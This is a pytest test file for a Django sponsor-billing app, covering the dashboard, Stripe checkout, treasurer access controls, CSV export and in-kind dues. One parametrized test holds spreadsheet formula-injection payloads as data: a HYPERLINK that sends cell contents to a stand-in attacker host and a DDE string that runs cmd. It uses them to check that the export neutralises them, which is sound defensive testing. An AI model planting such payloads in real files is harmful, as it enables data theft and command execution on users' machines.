"""The sponsor's dashboard and the treasurer's pages."""

from __future__ import annotations

import csv
import datetime as dt
import io
import socket

import pytest
from allauth.mfa.totp.internal.auth import TOTP, generate_totp_secret
from django.urls import reverse

from members.billing.models import BillingFlag, Invoice
from members.billing.services.invoices import invoice_issue
from members.billing.services.payments import in_kind_record
from tests.auth import sign_in
from tests.billing.conftest import make_sponsor, pay_by_checkout
from tests.factories import RoleFactory, UserFactory, register_decision

pytestmark = pytest.mark.django_db


def _dashboard(invoice):
    return reverse("billing:dashboard", kwargs={"slug": invoice.organisation.slug})


def _treasurer(client):
    user = UserFactory()
    TOTP.activate(user, generate_totp_secret())
    RoleFactory(user=user, role="treasurer")
    sign_in(client, user)
    return user


def test_dashboard_shows_open_invoice_due_date_and_what_lapses(client, invoice):
    client.force_login(invoice.organisation.representative)
    response = client.get(_dashboard(invoice))
    text = response.content.decode()
    assert response.status_code == 200
    assert invoice.number in text and "2,500.00 USD" in text
    assert "2026-07-01" in text and "2026-07-31" in text  # grace, then lapse
    assert "grace period" in text and "lapses" in text


def test_billing_contact_may_open_the_dashboard(client, invoice):
    contact = UserFactory(email="billing@example.com")
    client.force_login(contact)
    assert client.get(_dashboard(invoice)).status_code == 200


def test_other_people_may_not_see_a_sponsors_billing(client, invoice):
    client.force_login(UserFactory())
    assert client.get(_dashboard(invoice)).status_code == 403


def test_index_redirects_a_single_organisation_to_its_dashboard(client, invoice):
    client.force_login(invoice.organisation.representative)
    response = client.get(reverse("billing:index"))
    assert response.status_code == 302 and response["Location"] == _dashboard(invoice)


def test_pay_now_redirects_to_stripe_checkout(client, fake_stripe, invoice):
    client.force_login(invoice.organisation.representative)
    url = reverse(
        "billing:invoice_checkout", kwargs={"slug": invoice.organisation.slug, "number": invoice.number}
    )
    response = client.post(url)
    assert response.status_code == 303 and response["Location"].startswith(f"{fake_stripe.url}/checkout/")


def test_pay_now_with_stripe_down_shows_a_message(client, stripe_settings, invoice):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    stripe_settings.STRIPE_API_BASE = f"http://127.0.0.1:{port}"
    client.force_login(invoice.organisation.representative)
    url = reverse(
        "billing:invoice_checkout", kwargs={"slug": invoice.organisation.slug, "number": invoice.number}
    )
    response = client.post(url, follow=True)
    assert "could not be reached" in response.content.decode()


def test_invoice_page_shows_buyer_details_and_the_501c6_notice(client, invoice):
    client.force_login(invoice.organisation.representative)
    url = reverse("billing:invoice", kwargs={"slug": invoice.organisation.slug, "number": invoice.number})
    text = client.get(url).content.decode()
    assert "US-12-3456789" in text and "501(c)(6)" in text


def test_sponsor_sets_a_purchase_order_number(client, invoice):
    client.force_login(invoice.organisation.representative)
    url = reverse(
        "billing:invoice_details", kwargs={"slug": invoice.organisation.slug, "number": invoice.number}
    )
    client.post(url, {"po_number": "PO-4711", "billing_address": "2 Side St", "tax_id": "DE123"})
    invoice.refresh_from_db()
    assert invoice.po_number == "PO-4711" and invoice.billing_address == "2 Side St"


def test_portal_button_redirects_to_the_stripe_portal(client, fake_stripe, invoice):
    client.force_login(invoice.organisation.representative)
    response = client.post(reverse("billing:portal", kwargs={"slug": invoice.organisation.slug}))
    assert response.status_code == 303 and "/portal/" in response["Location"]


def test_dashboard_shows_paid_status_and_restored_rights(client, fake_stripe, invoice, deliver):
    pay_by_checkout(fake_stripe, invoice)
    deliver()
    client.force_login(invoice.organisation.representative)
    text = client.get(_dashboard(invoice)).content.decode()
    assert f'data-invoice-status="{invoice.number}">Paid' in text
    assert 'id="voting-rights">Votes (weight' in text


# --- Treasurer -------------------------------------------------------------------------------------


def test_treasury_needs_the_treasurer_role(client, invoice):
    user = UserFactory()
    client.force_login(user)
    assert client.get(reverse("billing_manage:overview")).status_code == 403


def test_treasury_needs_two_factor_authentication(client, invoice):
    user = UserFactory()
    RoleFactory(user=user, role="treasurer")
    client.force_login(user)
    response = client.get(reverse("billing_manage:overview"))
    assert response.status_code == 302 and "/2fa/" in response["Location"]


def test_treasury_shows_billed_paid_outstanding_and_overdue(client, invoice, clock):
    paid = Invoice.objects.get(pk=invoice.pk)
    in_kind_record(invoice=paid, actor=None, description="Servers", decision=register_decision().number)
    from members.billing.services.invoices import invoice_issue

    invoice_issue(membership=make_sponsor(class_code="ruby", start=clock.now() - dt.timedelta(days=400)))
    _treasurer(client)
    response = client.get(reverse("billing_manage:overview"))
    rows = {(r.year, r.class_code): r for r in response.context["rows"]}
    assert rows[(2026, "silver")].paid == 2_500_00
    assert rows[(2026, "ruby")].overdue == 5_000_00


def test_treasury_charts_revenue_as_inline_svg(client, fake_stripe, invoice, deliver):
    pay_by_checkout(fake_stripe, invoice)
    deliver()
    _treasurer(client)
    text = client.get(reverse("billing_manage:overview")).content.decode()
    assert '<svg class="chart"' in text and "2026-06: 2,500.00 USD" in text
    assert "style=" not in text.split('<svg class="chart"', 1)[1].split("</svg>", 1)[0]


def test_treasury_lists_flags_for_attention(client, fake_stripe, invoice, deliver):
    pay_by_checkout(fake_stripe, invoice, amount_total=1)
    deliver()
    _treasurer(client)
    text = client.get(reverse("billing_manage:overview")).content.decode()
    assert "Amount or currency differs" in text
    flag = BillingFlag.objects.get()
    client.post(reverse("billing_manage:resolve_flag", kwargs={"pk": flag.pk}))
    flag.refresh_from_db()
    assert flag.resolved_at is not None


def test_csv_export_lists_every_invoice(client, invoice):
    _treasurer(client)
    response = client.get(reverse("billing_manage:export"))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][0] == "number" and rows[1][0] == invoice.number and rows[1][4] == "250000"


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://evil.example/?d="&A1,"PO")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
)
def test_csv_export_neutralises_formulas_in_legal_name_and_po_number(client, clock, text):
    sponsor = make_sponsor(legal_name=text)
    invoice = invoice_issue(membership=sponsor)
    Invoice.objects.filter(pk=invoice.pk).update(po_number=text)
    _treasurer(client)
    rows = list(csv.reader(io.StringIO(client.get(reverse("billing_manage:export")).content.decode())))
    header, row = rows[0], rows[1]
    assert row[header.index("organisation")] == "'" + text
    assert row[header.index("po_number")] == "'" + text
    assert row[header.index("amount_minor")] == str(invoice.amount_minor)  # a number, not text


def test_treasurer_records_in_kind_dues(client, invoice):
    _treasurer(client)
    url = reverse("billing_manage:in_kind", kwargs={"number": invoice.number})
    response = client.post(url, {"description": "Staff time", "decision": str(register_decision().number)})
    assert response.status_code == 302
    invoice.refresh_from_db()
    assert invoice.status == "paid"


def test_the_in_kind_form_lists_the_register_and_refuses_a_typed_reference(client, invoice):
    """Issue 18: the board decision was a free-text field (``NO-SUCH-DECISION`` was accepted)."""
    decision = register_decision(title="Accept staff time as dues")
    register_decision(title="Something refused", outcome="rejected")
    _treasurer(client)
    url = reverse("billing_manage:in_kind", kwargs={"number": invoice.number})
    page = client.get(url).content.decode()
    assert (
        f'<option value="{decision.number}">{decision.reference} Accept staff time as dues</option>' in page
    )
    assert "Something refused" not in page
    for typed in ("NO-SUCH-DECISION", decision.reference, "999"):
        response = client.post(url, {"description": "Staff time", "decision": typed})
        assert response.status_code == 200
    invoice.refresh_from_db()
    assert invoice.status == "open"


def test_treasury_page_query_count_does_not_grow_with_invoices(
    client, invoice, django_assert_max_num_queries
):
    from members.billing.services.invoices import invoice_issue

    for code in ["gold", "ruby", "platinum", "silver"]:
        invoice_issue(membership=make_sponsor(class_code=code))
    _treasurer(client)
    with django_assert_max_num_queries(20):
        client.get(reverse("billing_manage:overview"))


def test_dashboard_query_count_does_not_grow_with_invoices(
    client, invoice, django_assert_max_num_queries, clock
):
    from members.billing.services.invoices import invoice_issue
    from members.billing.services.payments import in_kind_record as settle

    client.force_login(invoice.organisation.representative)
    client.get(_dashboard(invoice))  # warm caches (content types, sessions)
    settle(invoice=invoice, actor=None, description="Servers", decision=register_decision().number)
    for _year in range(3):
        invoice.membership.refresh_from_db()
        settle(
            invoice=invoice_issue(membership=invoice.membership),
            actor=None,
            description="x",
            decision=register_decision().number,
        )
    with django_assert_max_num_queries(25):
        client.get(_dashboard(invoice))


def test_dashboard_lets_its_forms_redirect_to_stripe(client, fake_stripe, invoice):
    client.force_login(invoice.organisation.representative)
    policy = client.get(_dashboard(invoice))["Content-Security-Policy"]
    form_action = next(d for d in policy.split(";") if d.strip().startswith("form-action"))
    assert fake_stripe.url in form_action and "'self'" in form_action


def test_revenue_series_has_one_point_per_month_net_of_refunds(invoice):
    from members.billing.selectors import revenue_by_month
    from members.billing.services.payments import Received, payment_record, payment_refund_record

    payment_record(
        invoice=invoice,
        received=Received(
            method="checkout",
            amount_minor=invoice.amount_minor,
            currency="USD",
            stripe_payment_intent_id="pi_1",
        ),
    )
    payment_refund_record(stripe_payment_intent_id="pi_1", refunded_minor=500, fully_refunded=False)
    points = revenue_by_month(months=12)["USD"]
    assert len(points) == 12
    assert points[-1] == (dt.date(2026, 6, 1), invoice.amount_minor - 500)
